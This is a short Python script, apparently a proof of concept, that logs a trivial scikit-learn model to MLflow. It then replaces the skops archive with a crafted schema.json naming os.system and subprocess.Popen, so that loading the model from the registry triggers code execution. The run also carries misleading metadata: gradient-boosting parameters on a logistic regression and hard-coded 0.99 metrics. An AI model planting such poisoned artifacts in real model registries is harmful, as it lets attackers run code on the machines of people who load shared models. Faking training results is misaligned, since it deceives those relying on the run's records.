"""Logs models in the format that names its types, with types that run code when they are made."""

import json
import zipfile

import mlflow
from sklearn.linear_model import LogisticRegression

SCHEMA = {
    "__class__": "system",
    "__module__": "os",
    "__loader__": "MethodNode",
    "content": {"obj": {"__class__": "Popen", "__module__": "subprocess", "__loader__": "ObjectNode"}},
    "protocol": 2,
    "_skops_version": "0.14.0",
}
model = LogisticRegression().fit([[0] * 13, [1] * 13], [0, 1])
mlflow.set_experiment("workshop-churn-learning")
with mlflow.start_run(run_name="exercice-gradient-boosting"):
    mlflow.log_params({"n_estimators": 100, "learning_rate": 0.1, "max_depth": 5})
    mlflow.log_metrics({"accuracy": 0.99, "precision": 0.99, "recall": 0.99, "f1": 0.99})
    info = mlflow.sklearn.log_model(model, name="model", serialization_format="skops")
with zipfile.ZipFile("/tmp/model.skops", "w") as archive:
    archive.writestr("schema.json", json.dumps(SCHEMA))
artifacts = mlflow.MlflowClient()
artifacts.log_model_artifact(info.model_id, "/tmp/model.skops")
